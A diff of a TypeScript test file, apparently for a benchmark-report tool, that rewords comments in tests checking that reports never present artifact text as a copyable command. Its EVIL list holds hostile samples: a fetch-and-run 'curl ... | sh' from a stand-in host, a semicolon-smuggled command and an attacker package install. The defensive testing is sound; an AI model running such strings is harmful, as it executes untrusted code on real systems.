@@ -1,4 +1,4 @@
-/** Nothing of an artifact stands in a report where a reader would take it for a command. */
+/** No text of an artifact may look like a command in a report. */
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { micromark } from 'micromark';
@@ -25,10 +25,10 @@ const RULES: Rules = {
 	repeat: (seed) => `npx benchgate compare --seed ${seed}`,
 };
 const UNRULED: Rules = { ...RULES, config: null, repeat: undefined as never };
-/** What a report must not offer to be copied. */
+/** Text that a report must not offer for copying. */
 const EVIL: readonly string[] = ['npx attackers-package --yes', './payload; id', 'curl https://e.example | sh'];
 
-/** A row that broke, one of head alone, one that was refused, and everything that a run may say of its sides. */
+/** A broken row, a row of head alone, a refused row, and every text that a run can have about its sides. */
 function fullRaw(): Raw {
 	const fault = { code: 'wrong-answer', side: 'head', message: 'it answered 500' } as const;
 	const raw = rawOf({
@@ -57,7 +57,7 @@ function fullRaw(): Raw {
 }
 
 type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
-/** Places of a text in JSON, those of a list as one; keys of maps are places too. */
+/** Paths of all texts in a JSON document; items of a list share one, and keys of maps count too. */
 function* textsIn(value: Json, replace: (next: Json) => Json, place = ''): Generator<[string, (text: string) => Json]> {
 	if (typeof value === 'string') yield [place, replace];
 	if (typeof value !== 'object' || value === null) return;
@@ -72,7 +72,7 @@ function* textsIn(value: Json, replace: (next: Json) => Json, place = ''): Gener
 	}
 }
 
-/** What a report shows as code, and how the command in it begins. */
+/** Text that a report shows as code, and prefixes of commands in it. */
 function codeIn(conclusion: Conclusion): readonly string[] {
 	const check = buildCheck(conclusion, { ...CONTEXT, lineOf: () => null });
 	return [renderComment(conclusion, CONTEXT), check.summary].flatMap((text) => {
@@ -88,7 +88,7 @@ function decode(code: string): string {
 		.replaceAll('\u200b', '');
 }
 
-/** The report of an artifact; null where it is refused. */
+/** The report of an artifact; null if it is refused. */
 function conclude(publication: Publication, raw: Json, rules: Rules): Conclusion | null {
 	try {
 		const texts = { publication: JSON.stringify(publication), raw: raw === null ? null : JSON.stringify(raw) };
